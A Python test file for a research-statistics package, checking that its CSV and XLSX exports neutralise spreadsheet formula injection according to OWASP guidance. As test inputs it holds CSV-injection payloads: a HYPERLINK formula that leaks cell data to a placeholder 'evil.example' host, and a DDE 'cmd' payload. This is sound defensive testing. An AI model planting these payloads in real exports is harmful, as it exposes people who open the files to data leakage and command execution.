"""Exports that cannot run formulas: every CSV and XLSX cell patalliance writes is inert.

The rule under test is OWASP's CSV-injection guidance (https://owasp.org/www-community/
attacks/CSV_Injection): a text cell whose first character is ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is prefixed with a single quote. The payloads are OWASP's and the issue's
own examples (``=HYPERLINK(...)``, ``+cmd|' /C calc'!A0``, ``@SUM(1)``). The checker below is
written from that rule, independently of ``patalliance.safe_cells``; openpyxl (the reader,
not our writer) says whether an XLSX cell is a formula.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import make_participants, make_responses, run_cli, write_study
from hypothesis import given
from hypothesis import strategies as st
from numpy.testing import assert_allclose
from openpyxl import load_workbook

import patalliance as pa
from patalliance.report.export import write_csvs, write_xlsx
from patalliance.report.tables import ReportTable
from patalliance.safe_cells import neutralise, restore

#: OWASP: the characters that start a formula (or hide one) in a spreadsheet cell.
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number: a spreadsheet reads it as a number, never as a formula.
DECIMAL = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r@A1",
]


def dangerous(cell: str) -> bool:
    """True when a spreadsheet could read this text cell as a formula."""
    return cell.startswith(OWASP_STARTS) and DECIMAL.fullmatch(cell) is None


def assert_same_statistics(got: list[dict], want: list[dict]) -> None:
    """Equal records; numbers to 1e-12 (participant order changes the summation order)."""
    assert len(got) == len(want)
    for g, w in zip(got, want, strict=True):
        assert g.keys() == w.keys()
        for key, value in w.items():
            if isinstance(value, float):
                assert_allclose(g[key], value, rtol=1e-12, atol=1e-14, err_msg=key)
            else:
                assert g[key] == value, key


def folder_hash(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def unsafe_cells(folder: Path) -> list[tuple[str, str, object]]:
    """Every CSV cell that starts a formula, and every XLSX formula or formula-like text."""
    found: list[tuple[str, str, object]] = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for i, row in enumerate(csv.reader(fh), start=1):
                found += [(path.name, f"line {i}", c) for c in row if dangerous(c)]
    for path in sorted(folder.rglob("*.xlsx")):
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    text = isinstance(cell.value, str)
                    if cell.data_type == "f" or (text and dangerous(str(cell.value))):
                        found.append((path.name, f"{ws.title}!{cell.coordinate}", cell.value))
    return found


def injection_study(folder: Path) -> tuple[Path, dict[str, str]]:
    """The tiny study with formula payloads as participant ids, labels and covariates."""
    responses, participants = make_responses(12), make_participants(12)
    ids = {f"P{i:03d}": PAYLOADS[i - 1] for i in range(1, len(PAYLOADS) + 1)}
    responses["participant_id"] = responses["participant_id"].replace(ids)
    participants["participant_id"] = participants["participant_id"].replace(ids)
    participants["facilitator"] = ["=F1", "+F2", "@F3"] * 4
    participants["site"] = ["-x", "=1+2", "-1.5"] * 4  # "-1.5" is a number, not a formula
    path = write_study(folder, responses, participants)
    text = path.read_text(encoding="utf-8")
    text = text.replace('label = "Immediate"', 'label = "=HYPERLINK(\\"http://evil.example\\")"')
    text = text.replace('label = "Preparation"', 'label = "+Prep"')
    path.write_text(text, encoding="utf-8")
    return path, ids


# --- the rule -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_owasp_payloads_are_prefixed_with_a_quote(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


@pytest.mark.parametrize("number", ["-0.25", "-2", "+3", "-1e-3", "12", ".5"])
def test_numbers_written_as_text_stay_numbers(number: str) -> None:
    assert neutralise(number) == number


@given(st.text(max_size=12))
def test_neutralised_text_is_inert_and_reversible(text: str) -> None:
    safe = neutralise(text)
    assert not dangerous(safe)
    assert restore(safe) == text


# --- the commands ---------------------------------------------------------------------------


def test_analyze_outputs_hold_no_formula(tmp_path: Path) -> None:
    study, ids = injection_study(tmp_path / "study")
    before = folder_hash(study.parent)
    out = tmp_path / "out"
    result = run_cli("analyze", str(study), "--out", str(out), "--show-ids")
    assert result.returncode == 0, result.stderr
    assert folder_hash(study.parent) == before
    assert unsafe_cells(out) == []
    # the payloads are there, as inert text, and read back to the ids
    scores = pd.read_csv(out / "scores.csv", dtype={"participant_id": str})
    assert set(scores["participant_id"].map(restore)) >= {p.strip() for p in ids.values()}
    # numbers stay numbers: scores.csv and the XLSX hold the analysis values as numbers
    table = pa.score(study)
    table.index = table.index.map(neutralise)
    variables = [c for c in table.columns if c != "arm" and "@" in c]
    numeric = table[variables].apply(pd.to_numeric, errors="coerce").dropna(axis=1, how="all")
    got = scores.set_index("participant_id").loc[table.index, numeric.columns]
    assert_allclose(got.to_numpy(float), numeric.to_numpy(float), equal_nan=True)
    doc = json.loads((out / "results.json").read_text(encoding="utf-8"))
    r_values = sorted(c["r"] for c in doc["correlations"] if c["r"] is not None)
    assert r_values[0] < 0  # a negative statistic is among the numbers checked below
    cells = [
        cell.value
        for ws in load_workbook(out / "tables" / "tables.xlsx").worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "n" and isinstance(cell.value, float)
    ]
    for r in r_values:
        assert any(np.isclose(v, r, rtol=0, atol=1e-12) for v in cells), r
    correlations = pd.read_csv(out / "tables" / "correlations.csv")
    assert correlations["r"].dtype == float
    assert_allclose(sorted(correlations["r"].dropna()), r_values)


def test_score_and_exports_hold_no_formula(tmp_path: Path) -> None:
    study, ids = injection_study(tmp_path / "study")
    before = folder_hash(study.parent)
    scored = tmp_path / "scored" / "scores.csv"
    result = run_cli("score", str(study), "--out", str(scored))
    assert result.returncode == 0, result.stderr
    assert unsafe_cells(scored.parent) == []
    baseline = pa.analyze(study).to_dict()
    for target in ("redcap", "wide-csv", "xlsx", "sdtm"):
        out = tmp_path / f"export-{target}"
        result = run_cli("export", str(study), "--to", target, "--out", str(out))
        assert result.returncode == 0, result.stderr
        assert unsafe_cells(out) == [], target
        # the export still reads back to the same statistics
        doc = pa.analyze(out / "study.toml").to_dict()
        for section in ("descriptives", "change", "correlations"):
            assert_same_statistics(doc[section], baseline[section])
    assert folder_hash(study.parent) == before
    wide = pd.read_csv(tmp_path / "export-wide-csv" / "data.csv", dtype=str, keep_default_na=False)
    assert set(wide["site"]) == {"'-x", "'=1+2", "-1.5"}
    assert {restore(p) for p in wide["participant_id"]} >= {p.strip() for p in ids.values()}


def test_report_table_writers_keep_text_inert(tmp_path: Path) -> None:
    """The writers shared by the analysis report and the pooled report (``pool``)."""
    data = pd.DataFrame({"Trial": PAYLOADS, "g": np.linspace(-0.5, 0.5, len(PAYLOADS))})
    table = ReportTable(
        key="evil",
        title='=HYPERLINK("http://evil.example")',
        display=data.assign(g=[f"{v:.2f}" for v in data["g"]]),
        data=data,
        note="@SUM(1)",
        number_formats={"g": "0.00"},
    )
    write_csvs([table], tmp_path)
    write_xlsx([table], tmp_path / "tables.xlsx")
    assert unsafe_cells(tmp_path) == []
    ws = load_workbook(tmp_path / "tables.xlsx").worksheets[1]
    values = [ws.cell(row=r, column=2).value for r in range(3, 3 + len(data))]
    assert_allclose(values, data["g"])
    assert [ws.cell(row=r, column=1).value for r in range(3, 3 + len(data))] == [
        "'" + p for p in PAYLOADS
    ]


def test_qc_report_csv_holds_no_formula(tmp_path: Path) -> None:
    """A study folder named like a formula, given as a relative path: the QC report's
    ``file`` column starts with ``=``, and the CSV report writes it inert."""
    participants = make_participants()
    participants.loc[0, "arm"] = "@arm"
    study = write_study(tmp_path / "=evil", participants=participants)
    before = folder_hash(study.parent)
    result = run_cli("validate", "=evil/study.toml", "--report", "report/qc.csv", cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert folder_hash(study.parent) == before
    assert unsafe_cells(tmp_path / "report") == []
    report = pd.read_csv(tmp_path / "report" / "qc.csv", dtype=str)
    assert restore(report.loc[0, "file"]) == "=evil/participants.csv"
    assert report.loc[0, "code"] == "unknown_arm"
    assert int(report.loc[0, "row"]) == 2


def test_pool_outputs_hold_no_formula(tmp_path: Path) -> None:
    effects = tmp_path / "effects.csv"
    frame = pd.DataFrame(
        {"study": PAYLOADS[:4], "r": [-0.3, 0.5, 0.1, -0.45], "n": [40, 25, 60, 33]}
    )
    frame.to_csv(effects, index=False)
    before = hashlib.sha256(effects.read_bytes()).hexdigest()
    out = tmp_path / "pooled"
    result = run_cli("pool", str(effects), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert hashlib.sha256(effects.read_bytes()).hexdigest() == before
    assert unsafe_cells(out) == []
    written = [
        cell
        for path in (out / "tables").glob("*.csv")
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))
        for cell in row
    ]
    assert "'" + PAYLOADS[0] in written  # the study id is there, inert


# -- participants-file columns an export cannot write as they are -----------------------------


def _study_with_column(folder: Path, name: str) -> Path:
    study = write_study(folder, make_responses(n=6, seed=3), make_participants(6))
    participants = pd.read_csv(folder / "participants.csv", dtype=str)
    participants[name] = [str(i) for i in range(len(participants))]
    participants.to_csv(folder / "participants.csv", index=False)
    return study


@pytest.mark.parametrize(
    ("name", "to", "expected"),
    [
        ("timepoint", "wide-csv", "writes a column of that name itself"),
        ("wai_sr_1", "sav", "writes a column of that name itself"),
        ("record_id", "redcap", "writes a column of that name itself"),
        ("wai_sr_complete", "redcap", "writes a column of that name itself"),
        ("redcap_event_name", "redcap", "writes a column of that name itself"),
        ("USUBJID", "sdtm", "writes a column of that name itself"),
        ("Age Group", "sav", "cannot be a variable name in a .sav file"),
        ("1st", "dta", "cannot be a variable name in a .dta file"),
        ("expectancy_rating_at_screening_visit_x", "xpt", "cannot be a variable name"),
    ],
)
def test_a_column_the_export_cannot_write_is_named(
    tmp_path: Path, name: str, to: str, expected: str
) -> None:
    """A clash with the export's own columns would overwrite data silently (REDCap's record_id,
    SDTM's USUBJID) or fail inside the writer; either is an exit-2 message naming the column."""
    study = _study_with_column(tmp_path / "s", name)
    before = {p.name: p.read_bytes() for p in study.parent.iterdir()}
    result = run_cli("export", str(study), "--to", to, "--out", str(tmp_path / "out"))
    assert result.returncode == 2, result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert f"column {name!r}" in result.stderr and expected in result.stderr
    assert not (tmp_path / "out").exists()
    assert {p.name: p.read_bytes() for p in study.parent.iterdir()} == before


def test_a_long_name_spss_allows_round_trips(tmp_path: Path) -> None:
    study = _study_with_column(tmp_path / "s", "expectancy_rating_at_screening_visit_x")
    result = run_cli("export", str(study), "--to", "sav", "--out", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
